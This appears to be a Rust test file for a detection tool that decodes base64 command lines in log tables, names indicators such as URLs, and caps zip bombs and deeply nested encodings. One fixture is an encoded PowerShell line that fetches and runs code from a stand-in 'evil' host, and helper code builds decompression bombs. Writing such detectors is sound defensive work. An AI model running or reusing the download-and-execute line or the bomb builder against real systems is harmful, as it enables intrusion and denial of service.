use std::io::Write as _;

use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;
use polars::prelude::df;

use super::*;
use crate::Show;

/// `IEX (iwr hxxp://evil[.]example/a)` as PowerShell takes it.
const LINE: &str =
    "powershell -enc SQBFAFgAIAAoAGkAdwByACAAaAB0AHQAcAA6AC8ALwBlAHYAaQBsAC4AZQB4AGEAbQBwAGwAZQAvAGEAKQA=";

#[test]
fn a_text_is_decoded_and_what_is_in_it_named() {
    let found = decode(LINE).unwrap_or_else(|error| panic!("{error}"));
    assert_eq!(found.texts(), ["IEX (iwr http://evil.example/a)"]);
    let text = found.report().to_text();
    assert!(text.contains("text in UTF-16LE") && text.contains("hxxp://evil[.]example/a"), "{text}");
    assert!(text.contains("1 dns, 1 url") || text.contains("1 url, 1 dns"), "{text}");
    let nothing = decode("whoami").map(|it| it.report().to_text());
    assert!(nothing.is_ok_and(|it| it == "Decoded\nnothing is encoded in base64"));
}

#[test]
fn rows_of_a_frame_keep_their_numbers() {
    let lines = [Some("whoami"), Some(LINE), None, Some(LINE)];
    let frame = df!("CommandLine" => lines).unwrap_or_else(|error| panic!("{error}"));
    let found = decode_in(&frame, &[]).unwrap_or_else(|error| panic!("{error}"));
    assert_eq!(found.len(), 1, "the same text once");
    let indexes = |frame: Result<DataFrame>| -> Vec<Option<i64>> {
        let frame = frame.unwrap_or_else(|error| panic!("{error}"));
        let column = frame.column("SourceIndex").and_then(|it| it.i64());
        column.map(|it| it.iter().collect()).unwrap_or_default()
    };
    assert_eq!(indexes(found.frame()), [Some(1), Some(3)]);
    let iocs = found.iocs().unwrap_or_else(|error| panic!("{error}"));
    assert_eq!(indexes(iocs.frame()), [Some(1), Some(1), Some(3), Some(3)]);
}

/// A line that unpacks to so many bytes.
fn bomb(letter: char, bytes: usize) -> String {
    let mut out = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    let start = out.start_file("a.txt", zip::write::SimpleFileOptions::default());
    start.unwrap_or_else(|error| panic!("{error}"));
    out.write_all(format!("{letter} ").repeat(bytes / 2).as_bytes())
        .unwrap_or_else(|error| panic!("{error}"));
    let packed = out.finish().unwrap_or_else(|error| panic!("{error}")).into_inner();
    format!("echo {}", STANDARD.encode(packed))
}

/// The values of a column of texts.
fn column(frame: &DataFrame, name: &str) -> Vec<Option<String>> {
    let column =
        frame.column(name).and_then(|it| it.str()).map(|it| it.iter().map(|it| it.map(str::to_owned)));
    column.map(Iterator::collect).unwrap_or_default()
}

#[test]
fn all_texts_together_unpack_to_no_more_than_is_allowed() {
    let lines: Vec<String> = ('a'..='h').map(|it| bomb(it, 1_000)).collect();
    let mut columns: Vec<&str> = lines.iter().map(String::as_str).collect();
    columns.push("echo d2hvYW1pIC9hbGwgL2ZvIGxpc3Q=");
    let frame = df!("CommandLine" => &columns, "Other" => &columns).unwrap_or_else(|error| panic!("{error}"));
    let texts =
        TextColumns::read(&frame, &["CommandLine", "Other"]).unwrap_or_else(|error| panic!("{error}"));
    let bounds = Bounds { left: 3_500, ..Bounds::default() };
    let found = Decoded::find_within(&texts, bounds).unwrap_or_else(|error| panic!("{error}"));
    let lens: Vec<usize> = found.pieces().iter().filter(|it| it.name.is_some()).map(|it| it.len).collect();
    let mut expected = vec![1_000, 1_000, 1_000, 500];
    expected.resize(16, 0);
    assert_eq!(lens, expected, "the first ones whole, in their order");
    // What is not packed is read all the same.
    assert_eq!(found.texts().last().map(String::as_str), Some("whoami /all /fo list"));
    let ended = "all texts together unpack to more than is looked at";
    let frame = found.frame().unwrap_or_else(|error| panic!("{error}"));
    assert_eq!(column(&frame, "Ended").iter().flatten().count(), 2 * 13, "two pieces in each of 13 texts");
    let whole = column(&frame, "Ended").iter().take(6).flatten().count();
    assert_eq!((whole, column(&frame, "Remark")[7].as_deref()), (0, Some(ended)));
    assert_eq!(column(&frame, "FileType").last().cloned().flatten().as_deref(), Some("text in UTF-8"));
    assert_eq!(column(&frame, "SHA256")[9], None, "nothing of it was unpacked");
    let text = found.report().to_text();
    assert!(text.contains(&format!("not everything was looked at in 13 of the texts: {ended}")), "{text}");
    assert!(text.contains("not unpacked"), "{text}");
}

#[test]
fn what_ended_the_search_is_said_of_each_text() {
    let mut nested = "the innermost of all commands".to_owned();
    for _ in 0..20 {
        nested = STANDARD.encode(nested);
    }
    let many: Vec<String> = (0..300).map(|it| STANDARD.encode(format!("whoami /all {it:03}"))).collect();
    let lines = [LINE.to_owned(), nested, many.join(" "), many.join("  ")];
    let frame = df!("CommandLine" => &lines).unwrap_or_else(|error| panic!("{error}"));
    let found = decode_in(&frame, &[]).unwrap_or_else(|error| panic!("{error}"));
    let text = found.report().to_text();
    for words in [
        "not everything was looked at in 1 of the texts: it goes on deeper than is looked",
        "not everything was looked at in 2 of the texts: there are more pieces than are looked at",
    ] {
        assert!(text.contains(words), "{text}");
    }
    let frame = found.frame().unwrap_or_else(|error| panic!("{error}"));
    let mut ended = column(&frame, "Ended");
    assert_eq!(ended.len(), 1 + 16 + 256 + 256);
    assert_eq!((ended[0].take(), ended.iter().flatten().count()), (None, 16 + 512));
}

#[test]
fn a_text_in_many_rows_is_in_memory_once() {
    let line = bomb('a', 1 << 20);
    let frame = df!("CommandLine" => vec![line.as_str(); 20_000]).unwrap_or_else(|error| panic!("{error}"));
    // 20 GB if each row had its own.
    let frame = decode_in(&frame, &[]).and_then(|it| it.frame()).unwrap_or_else(|error| panic!("{error}"));
    assert_eq!(frame.height(), 40_000);
    assert_eq!(frame.column("Text").map(|it| it.null_count()).ok(), Some(20_000));
}
